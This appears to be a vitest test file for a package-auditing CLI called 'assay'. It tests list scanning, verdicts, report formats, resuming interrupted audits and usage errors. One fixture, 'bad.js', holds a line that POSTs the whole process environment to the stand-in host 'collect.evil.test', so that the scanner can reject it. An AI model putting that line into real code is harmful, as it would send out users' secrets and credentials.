// Audits of lists, as a user runs them. Registries are asked in test/service.
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { exitCodes } from '../../src/cli/exit-codes.ts';
import { openStore } from '../../src/store/open-store.ts';
import { runAssay } from './run-assay.ts';

const launcher = fileURLToPath(new URL('../../bin/assay.js', import.meta.url));

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'assay-audit-'));
  write('good/package.json', '{"name":"good","version":"1.0.0","main":"index.js"}');
  write('good/index.js', 'module.exports = 1;\n');
  write(
    'bad.js',
    "const https = require('https');\nhttps.request({ hostname: 'collect.evil.test', method: 'POST' }).end(JSON.stringify(process.env));\n",
  );
  write('opaque.rb', 'puts 1\n');
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

function write(name: string, text: string): void {
  mkdirSync(join(folder, name, '..'), { recursive: true });
  writeFileSync(join(folder, name), text);
}
function audit(list: string, ...args: string[]) {
  write('list.txt', list);
  return runAssay(['audit', '--from', 'list.txt', '--data-dir', join(folder, 'data'), ...args], { cwd: folder });
}
const json = async (list: string, ...args: string[]) => {
  const outcome = await audit(list, '--format', 'json', ...args);
  return { ...outcome, report: JSON.parse(outcome.stdout) };
};

describe('a list', { timeout: 120_000 }, () => {
  test('is scanned line by line, comments and repetitions apart; the worst package decides', async () => {
    const { code, report, stderr } = await json('# what we use\ngood   # ours\n\nbad.js\ngood\n');
    expect(code).toBe(exitCodes.policyViolation);
    expect(stderr).toBe('');
    expect(report).toMatchObject({
      status: 'completed',
      totalPackages: 2,
      summary: { byVerdict: { APPROVE: 1, REJECT: 1 } },
    });
    expect(report.results).toMatchObject([
      { package: join(folder, 'good'), status: 'completed', verdict: 'APPROVE', cached: false },
      { package: join(folder, 'bad.js'), status: 'completed', verdict: 'REJECT' },
    ]);
  });

  test('that was audited before is answered by the stored reports', async () => {
    await json('good\n');
    expect((await json('good\n')).report.counts).toMatchObject({ completed: 1, cached: 1 });
  });

  test('with lines that lead nowhere still gives every other answer, and names the lines', async () => {
    const { code, stderr, report } = await json('good\nmissing.tgz\nnpm:@\n');
    expect(code).toBe(exitCodes.usage);
    expect(stderr).toContain('list.txt:2: ');
    expect(stderr).toContain('list.txt:3: ');
    expect(report).toMatchObject({ status: 'completed_with_errors', completedPackages: 1, failedPackages: 2 });
  });

  test('of what cannot be looked at ends with 4, of reviews with 1 when asked to', async () => {
    expect((await audit('good\nopaque.rb\n')).code).toBe(exitCodes.incompleteCoverage);
    expect((await audit('opaque.rb\n', '--fail-on', 'review')).code).toBe(exitCodes.policyViolation);
  });

  test.each([
    ['', 'list.txt names no package'],
    ['good\n-\n', 'list.txt:2: a list cannot name standard input'],
  ])('%j is refused', async (list, complaint) => {
    const { code, stderr } = await audit(list);
    expect(code).toBe(exitCodes.usage);
    expect(stderr).toContain(complaint);
  });
});

describe('forms', { timeout: 120_000 }, () => {
  test('text shows what needs a look, and counts the rest', async () => {
    const { stdout } = await audit('good\nbad.js\nmissing.tgz\n');
    const lines = stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^REJECT {4}9\.\d CRITICAL .+bad\.js {2}1 finding/);
    expect(lines[1]).toMatch(/missing\.tgz/);
    expect(lines.at(-1)).toBe('3 packages: 1 REJECT, 0 REVIEW, 1 APPROVE, 1 could not be scanned');
    expect(stdout).not.toContain('good');
    expect((await audit('good\n', '--verbose')).stdout).toMatch(/^APPROVE/);
  });

  test('CSV, lines of JSON and SARIF; a file is written whole', async () => {
    const output = join(folder, 'out.csv');
    const { stdout } = await audit('good\nbad.js\n', '--format', 'csv', '--output', output);
    expect(stdout).toBe('');
    expect(readFileSync(output, 'utf8').split('\r\n')).toMatchObject([
      expect.stringMatching(/^package,version,status,verdict,/),
      expect.stringContaining('APPROVE'),
      expect.stringContaining('REJECT'),
      '',
    ]);
    const lines = (await audit('good\nbad.js\n', '--format', 'jsonl')).stdout.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line).verdict)).toEqual(['APPROVE', 'REJECT']);
    const sarif = JSON.parse((await audit('good\nbad.js\nmissing.tgz\n', '--format', 'sarif')).stdout);
    expect(sarif.runs[0].results).toMatchObject([{ ruleId: 'data-exfiltration/env-dump' }]);
    expect(sarif.runs[0].invocations[0].executionSuccessful).toBe(false);
  });
});

describe('an audit that was interrupted', { timeout: 120_000 }, () => {
  test('goes on with the same command, or begins anew when asked to', async () => {
    const list = 'good\nbad.js\n';
    const references = [join(folder, 'good'), join(folder, 'bad.js')];
    const store = await openStore({ dataDir: join(folder, 'data') });
    const batchId = 'batch_0000000000';
    await store.batches.create(
      { batchId, project: 'default', queue: batchId, request: { references }, totalPackages: 2 },
      references,
    );
    const [first] = await store.jobs.take(batchId, 1);
    await store.batches.finish(batchId, 0, { error: { code: 'not-found', message: 'from the first run' } });
    await store.jobs.finish(batchId, first!);
    await store.close();
    const fresh = await json(list, '--fresh');
    expect(fresh.report).toMatchObject({ completedPackages: 2 });
    const { stderr, report } = await json(list);
    expect(stderr).toContain(`assay: going on with ${batchId}, 1 of 2 done (--fresh begins anew)`);
    expect(report).toMatchObject({
      batchId,
      results: [{ error: { message: 'from the first run' } }, { verdict: 'REJECT' }],
    });
  });

  test('says how to go on, and does', async () => {
    let isFirst = true;
    let interrupt = () => {};
    // A registry that falls silent, and then knows nothing.
    const registry = createServer((_request, response) => {
      if (!isFirst) response.writeHead(404).end('{}');
      isFirst = false;
      interrupt();
    });
    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = registry.address() as AddressInfo;
      const env = {
        ASSAY_NPM_REGISTRY: `http://127.0.0.1:${port}`,
        ASSAY_ALLOW_PRIVATE_ADDRESSES: '1',
        ASSAY_CACHE_DIR: folder,
      };
      write('list.txt', 'good\nnpm:silent\n');
      const args = ['audit', '--from', 'list.txt', '--data-dir', join(folder, 'data')];
      const child = spawn(process.execPath, [launcher, ...args], { cwd: folder, env: { ...process.env, ...env } });
      interrupt = () => child.kill('SIGINT');
      const said = text(child.stderr);
      expect(await new Promise((resolve) => child.on('close', resolve))).toBe(exitCodes.interrupted);
      expect(await said).toContain('interrupted; the same command goes on from here');
      const { code, stderr } = await runAssay(args, { cwd: folder, env });
      expect(stderr).toContain('assay: going on with batch_');
      expect(stderr).toContain('list.txt:2: the npm package silent does not exist');
      expect(code).toBe(exitCodes.usage);
    } finally {
      registry.closeAllConnections();
      registry.close();
    }
  });
});

describe('usage', { timeout: 60_000 }, () => {
  test.each([
    [['audit'], 'name a registry'],
    [['audit', 'npm', '--from', 'x'], '--from names every package'],
    [['audit', 'npm', '--limit', '101'], 'A limit is a number from 1 to 100'],
    [['audit', 'cargo'], 'Allowed choices are npm, pypi, clawhub, huggingface'],
    [['audit', '--from', '/nowhere/list'], 'cannot be read'],
    [['worker'], 'DATABASE_URL'],
  ])('%j', async (args, complaint) => {
    const { code, stderr } = await runAssay(args, { env: { XDG_DATA_HOME: folder, DATABASE_URL: '' } });
    expect(code).toBe(exitCodes.usage);
    expect(stderr).toContain(complaint);
  });
});
